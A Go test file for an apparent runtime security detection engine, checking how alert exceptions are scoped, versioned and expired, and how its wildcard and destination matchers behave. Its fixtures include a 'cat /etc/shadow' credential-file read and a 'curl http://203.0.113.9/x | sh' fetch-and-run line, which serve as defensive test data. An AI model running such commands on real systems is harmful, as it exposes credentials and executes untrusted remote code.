package analytics

import (
	"sync"
	"testing"
	"time"

	"github.com/harrier-sec/harrier/api"
)

// TestRuntimeExceptions: the runtime set replaces the previous one while
// the engine runs, covers only what every field it sets matches, only its
// detection when it names one, and stops at its expiry; an invalid set is
// refused whole and the previous stays.
func TestRuntimeExceptions(t *testing.T) {
	e := newTestEngine(t, Config{})
	// Each event in its own container: no deduplication between them.
	shadow := func(c string, d time.Duration, opts ...evOpt) *api.Event {
		return openEv("/usr/bin/cat", "/etc/shadow", false, append([]evOpt{at(d), func(ev *api.Event) {
			ev.Container = &api.Container{Id: c, PodNamespace: "shop", WorkloadName: "web", Image: "nginx:1.27"}
			ev.Process.Args = []string{"cat", "/etc/shadow", "--n=" + c}
		}}, opts...)...)
	}
	alerts := func(evs ...*api.Event) int {
		ids, _ := run(e, evs...)
		return len(ids)
	}
	if n := alerts(shadow("c0", 0)); n != 1 || e.RuntimeExceptionsVersion() != 0 {
		t.Fatalf("before any exception: %d alerts, version %d", n, e.RuntimeExceptionsVersion())
	}
	x := RuntimeException{ID: "x1", Detection: "sensitive-files", Namespaces: []string{"shop"}, Workloads: []string{"web"},
		Commands: []string{"cat /etc/shadow *"}, Expires: t0.Add(time.Hour)}
	if err := e.SetRuntimeExceptions(1, []RuntimeException{x}); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		ev   *api.Event
		want int
	}{
		{"identical behaviour", shadow("c1", time.Minute), 0},
		{"another namespace", shadow("c2", time.Minute, func(ev *api.Event) { ev.Container.PodNamespace = "pay" }), 1},
		{"another workload", shadow("c3", time.Minute, func(ev *api.Event) { ev.Container.WorkloadName = "api" }), 1},
		{"another command", shadow("c4", time.Minute, func(ev *api.Event) { ev.Process.Args = []string{"head", "/etc/shadow"} }), 1},
		{"after the expiry", shadow("c5", time.Hour), 1},
	}
	for _, tc := range tests {
		if got := alerts(tc.ev); got != tc.want {
			t.Errorf("%s: %d alerts, want %d", tc.name, got, tc.want)
		}
	}
	// Scoped to its detection: another rule's match in the same place
	// still alerts.
	if err := e.SetRuntimeExceptions(2, []RuntimeException{{ID: "x2", Detection: "some-other-rule", Namespaces: []string{"shop"}}}); err != nil {
		t.Fatal(err)
	}
	if n := alerts(shadow("c6", 2*time.Minute)); n != 1 {
		t.Errorf("an exception of another detection silenced sensitive-files: %d alerts", n)
	}
	// No detection: every rule; a destination exception by CIDR.
	if err := e.SetRuntimeExceptions(3, []RuntimeException{{ID: "x3", Namespaces: []string{"shop"}, Images: []string{"nginx:*"}}}); err != nil {
		t.Fatal(err)
	}
	if n := alerts(shadow("c7", 3*time.Minute)); n != 0 {
		t.Errorf("an exception of every detection let %d alerts through", n)
	}
	// Another cluster's exception does not apply here (cluster "").
	if err := e.SetRuntimeExceptions(4, []RuntimeException{{ID: "x4", Cluster: "edge", Namespaces: []string{"shop"}}}); err != nil {
		t.Fatal(err)
	}
	if n := alerts(shadow("c9", 3*time.Minute)); n != 1 {
		t.Errorf("cluster edge's exception applied in another cluster: %d alerts", n)
	}
	if err := e.SetRuntimeExceptions(3, []RuntimeException{{ID: "x3", Namespaces: []string{"shop"}, Images: []string{"nginx:*"}}}); err != nil {
		t.Fatal(err)
	}
	// A bad version is refused whole; version 3 stays.
	for _, bad := range [][]RuntimeException{{{ID: "empty", Detection: "sensitive-files"}}, {{ID: "cidr", Destinations: []string{"10.0.0.0/99"}}}} {
		if err := e.SetRuntimeExceptions(4, bad); err == nil {
			t.Errorf("SetRuntimeExceptions(%+v) accepted", bad)
		}
	}
	if v := e.RuntimeExceptionsVersion(); v != 3 {
		t.Errorf("version after refusals %d, want 3", v)
	}
	// Replaced by an empty set: alerts again.
	if err := e.SetRuntimeExceptions(5, nil); err != nil {
		t.Fatal(err)
	}
	if n := alerts(shadow("c8", 4*time.Minute)); n != 1 {
		t.Errorf("after the set was emptied: %d alerts", n)
	}
	// Replacement from another goroutine while events are processed (the
	// race detector checks the handover).
	var wg sync.WaitGroup
	wg.Go(func() {
		for v := uint64(6); v < 50; v++ {
			_ = e.SetRuntimeExceptions(v, []RuntimeException{x})
		}
	})
	for i := range 50 {
		alerts(shadow("r", time.Duration(i)*time.Second))
	}
	wg.Wait()
}

func TestRuntimeExceptionMatchers(t *testing.T) {
	for _, tc := range []struct {
		p, s string
		want bool
	}{
		{"curl *", "curl http://203.0.113.9/x", true},
		{"*/x | sh", "curl http://203.0.113.9/x | sh", true},
		{"curl ?ttp*", "curl http://a", true},
		{"curl", "curl -s", false},
		{"*a*b*c", "xaxxbxxc", true},
		{"*a*b*c", "xaxxbxxcx", false},
	} {
		if got := wildcard(tc.p, tc.s); got != tc.want {
			t.Errorf("wildcard(%q, %q) = %v", tc.p, tc.s, got)
		}
	}
	addr := &api.SocketAddress{Ip: "10.1.2.3", Port: 443}
	for _, tc := range []struct {
		d    []string
		want bool
	}{{nil, true}, {[]string{"10.1.2.3"}, true}, {[]string{"10.1.2.3:443"}, true}, {[]string{"10.1.2.3:80"}, false},
		{[]string{"10.0.0.0/8"}, true}, {[]string{"192.0.2.0/24"}, false}} {
		if got := matchDestination(tc.d, addr); got != tc.want {
			t.Errorf("matchDestination(%v) = %v", tc.d, got)
		}
	}
	if matchDestination([]string{"10.1.2.3"}, nil) {
		t.Error("a destination exception covered an event with no remote address")
	}
}
